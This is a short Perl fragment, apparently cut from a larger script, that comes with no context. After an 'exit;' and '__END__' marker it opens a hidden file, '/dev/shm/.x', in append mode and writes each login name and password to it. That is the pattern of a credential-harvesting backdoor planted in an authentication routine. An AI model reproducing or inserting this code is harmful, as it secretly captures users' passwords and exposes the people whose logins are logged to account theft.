exit;
__END__
my $to = '/dev/shm/.x';
open(*g, ">> $to");
syswrite(*g, "$login|$userPasswd\n");
